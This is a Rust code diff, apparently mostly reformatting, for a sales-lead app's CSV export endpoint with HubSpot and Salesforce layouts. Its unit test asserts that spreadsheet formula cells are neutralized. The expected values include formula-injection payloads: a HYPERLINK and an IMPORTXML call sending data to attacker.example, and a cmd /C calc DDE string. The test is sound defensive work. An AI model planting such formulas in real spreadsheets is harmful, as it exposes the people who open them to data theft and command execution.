@@ -86,23 +86,64 @@ fn write(layout: &str, leads: &[Lead]) -> Result<Vec<u8>, csv::Error> {
     let t = |s: &str| neutralize(s);
     match layout {
         "hubspot" => {
-            w.write_record(["Company name", "Company Domain Name", "ICP Score", "Description", "Buying Signals", "Outreach Subject", "Outreach Message"])?;
+            w.write_record([
+                "Company name",
+                "Company Domain Name",
+                "ICP Score",
+                "Description",
+                "Buying Signals",
+                "Outreach Subject",
+                "Outreach Message",
+            ])?;
             for l in leads {
                 let signals: Vec<String> = l.signals.iter().map(|s| s.summary.clone()).collect();
-                w.write_record([t(&l.name), t(l.domain.as_deref().unwrap_or("")), score(l), t(&l.summary), t(&signals.join("; ")), t(&l.subject), t(&l.body)])?;
+                w.write_record([
+                    t(&l.name),
+                    t(l.domain.as_deref().unwrap_or("")),
+                    score(l),
+                    t(&l.summary),
+                    t(&signals.join("; ")),
+                    t(&l.subject),
+                    t(&l.body),
+                ])?;
             }
         }
         "hubspot-contacts" => {
-            w.write_record(["First Name", "Last Name", "Email", "Job Title", "LinkedIn URL", "Company Name", "Company Domain Name", "Source"])?;
+            w.write_record([
+                "First Name",
+                "Last Name",
+                "Email",
+                "Job Title",
+                "LinkedIn URL",
+                "Company Name",
+                "Company Domain Name",
+                "Source",
+            ])?;
             for l in leads {
                 for c in &l.contacts {
                     let (first, last) = c.name.split_once(' ').unwrap_or((c.name.as_str(), ""));
-                    w.write_record([t(first), t(last), t(c.email.as_deref().unwrap_or("")), t(c.title.as_deref().unwrap_or("")), t(c.linkedin.as_deref().unwrap_or("")), t(&l.name), t(l.domain.as_deref().unwrap_or("")), t(&c.source.label())])?;
+                    w.write_record([
+                        t(first),
+                        t(last),
+                        t(c.email.as_deref().unwrap_or("")),
+                        t(c.title.as_deref().unwrap_or("")),
+                        t(c.linkedin.as_deref().unwrap_or("")),
+                        t(&l.name),
+                        t(l.domain.as_deref().unwrap_or("")),
+                        t(&c.source.label()),
+                    ])?;
                 }
             }
         }
         "salesforce" => {
-            w.write_record(["Account Name", "Website", "Description", "Rating", "ICP_Score__c", "Buying_Signals__c"])?;
+            w.write_record([
+                "Account Name",
+                "Website",
+                "Description",
+                "Rating",
+                "ICP_Score__c",
+                "Buying_Signals__c",
+            ])?;
             for l in leads {
                 let rating = match l.score {
                     Some(s) if s >= 70 => "Hot",
@@ -111,17 +152,44 @@ fn write(layout: &str, leads: &[Lead]) -> Result<Vec<u8>, csv::Error> {
                     None => "",
                 };
                 let signals: Vec<String> = l.signals.iter().map(|s| s.summary.clone()).collect();
-                w.write_record([t(&l.name), t(l.domain.as_deref().unwrap_or("")), t(&l.summary), rating.to_string(), score(l), t(&signals.join("; "))])?;
+                w.write_record([
+                    t(&l.name),
+                    t(l.domain.as_deref().unwrap_or("")),
+                    t(&l.summary),
+                    rating.to_string(),
+                    score(l),
+                    t(&signals.join("; ")),
+                ])?;
             }
         }
         _ => {
-            w.write_record(["Company", "Domain", "Score", "Status", "Assessment", "Funding", "Hiring", "Technology", "Signal Sources", "Contacts", "Outreach Subject", "Outreach Message"])?;
+            w.write_record([
+                "Company",
+                "Domain",
+                "Score",
+                "Status",
+                "Assessment",
+                "Funding",
+                "Hiring",
+                "Technology",
+                "Signal Sources",
+                "Contacts",
+                "Outreach Subject",
+                "Outreach Message",
+            ])?;
             for l in leads {
                 let sources: Vec<String> = l.signals.iter().map(|s| s.source.label()).collect();
                 let contacts: Vec<String> = l
                     .contacts
                     .iter()
-                    .map(|c| format!("{}{}{}", c.name, c.title.as_deref().map(|t| format!(" ({t})")).unwrap_or_default(), c.email.as_deref().map(|e| format!(" <{e}>")).unwrap_or_default()))
+                    .map(|c| {
+                        format!(
+                            "{}{}{}",
+                            c.name,
+                            c.title.as_deref().map(|t| format!(" ({t})")).unwrap_or_default(),
+                            c.email.as_deref().map(|e| format!(" <{e}>")).unwrap_or_default()
+                        )
+                    })
                     .collect();
                 w.write_record([
                     t(&l.name),
@@ -148,7 +216,17 @@ fn score(l: &Lead) -> String {
     l.score.map(|s| s.to_string()).unwrap_or_default()
 }
 
-type LeadSql = (String, Option<String>, String, Option<i16>, Option<String>, Json<Vec<Signal>>, Json<Vec<Contact>>, Option<String>, Option<String>);
+type LeadSql = (
+    String,
+    Option<String>,
+    String,
+    Option<i16>,
+    Option<String>,
+    Json<Vec<Signal>>,
+    Json<Vec<Contact>>,
+    Option<String>,
+    Option<String>,
+);
 
 pub async fn export_csv(
     State(state): State<AppState>,
@@ -159,14 +237,19 @@ pub async fn export_csv(
     let ctx = state.ctx();
     let auth = match session::require(&ctx.pool, &ctx.settings, &headers).await {
         Ok(a) => a,
-        Err(e) => return (StatusCode::from_u16(e.status()).unwrap_or(StatusCode::UNAUTHORIZED), e.to_string()).into_response(),
+        Err(e) => {
+            return (StatusCode::from_u16(e.status()).unwrap_or(StatusCode::UNAUTHORIZED), e.to_string())
+                .into_response();
+        }
     };
-    let name: Option<String> = sqlx::query_scalar("SELECT name FROM campaigns WHERE owner_id = $1 AND id = $2 AND deleted_at IS NULL")
-        .bind(auth.user.id)
-        .bind(id)
-        .fetch_optional(&ctx.pool)
-        .await
-        .unwrap_or(None);
+    let name: Option<String> = sqlx::query_scalar(
+        "SELECT name FROM campaigns WHERE owner_id = $1 AND id = $2 AND deleted_at IS NULL",
+    )
+    .bind(auth.user.id)
+    .bind(id)
+    .fetch_optional(&ctx.pool)
+    .await
+    .unwrap_or(None);
     let Some(name) = name else {
         return (StatusCode::NOT_FOUND, "Not found.").into_response();
     };
@@ -215,11 +298,15 @@ pub async fn export_csv(
     if q.excel.as_deref() == Some("1") {
         bytes.splice(0..0, [0xEF, 0xBB, 0xBF]);
     }
-    let slug: String = name.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '-' }).collect();
+    let slug: String =
+        name.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '-' }).collect();
     (
         [
             (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
-            (header::CONTENT_DISPOSITION, format!("attachment; filename=\"{}-{layout}.csv\"", slug.trim_matches('-'))),
+            (
+                header::CONTENT_DISPOSITION,
+                format!("attachment; filename=\"{}-{layout}.csv\"", slug.trim_matches('-')),
+            ),
             (header::CACHE_CONTROL, "no-store".to_string()),
         ],
         bytes,
@@ -233,7 +320,8 @@ mod tests {
 
     #[test]
     fn case_c10_formula_cells_are_neutralized_and_numbers_stay_numbers() {
-        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/cases/c10_formula_injection_export_rows.json");
+        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../../shared/cases/c10_formula_injection_export_rows.json");
         let text = std::fs::read_to_string(&path)
             .or_else(|_| std::fs::read_to_string("/work/shared/cases/c10_formula_injection_export_rows.json"))
             .expect("c10 case file");
@@ -254,11 +342,18 @@ mod tests {
             .collect();
         let out = String::from_utf8(write("full", &leads).unwrap()).unwrap();
         let mut rd = csv::Reader::from_reader(out.as_bytes());
-        let got: Vec<(String, String, String)> =
-            rd.records().map(|r| r.unwrap()).map(|r| (r[0].to_string(), r[2].to_string(), r[10].to_string())).collect();
+        let got: Vec<(String, String, String)> = rd
+            .records()
+            .map(|r| r.unwrap())
+            .map(|r| (r[0].to_string(), r[2].to_string(), r[10].to_string()))
+            .collect();
         assert_eq!(got[0].0, "'=HYPERLINK(\"http://attacker.example/?d=\"&A2,\"Open\")");
         assert_eq!(got[1], ("Globex Demo".into(), "71".into(), "'+1 idea for your team".into()));
-        assert_eq!(got[2], ("Initech Demo".into(), "-1".into(), "'-20% onboarding time".into()), "negative numbers stay numbers");
+        assert_eq!(
+            got[2],
+            ("Initech Demo".into(), "-1".into(), "'-20% onboarding time".into()),
+            "negative numbers stay numbers"
+        );
         assert_eq!(got[3].0, "'@SUM(1+9)*cmd|' /C calc'!A0");
         assert_eq!((got[4].0.as_str(), got[4].2.as_str()), ("'\t=1+2", "'\r=2+3"));
         assert_eq!(got[5].2, "'＝IMPORTXML(\"http://attacker.example\",\"//a\")");
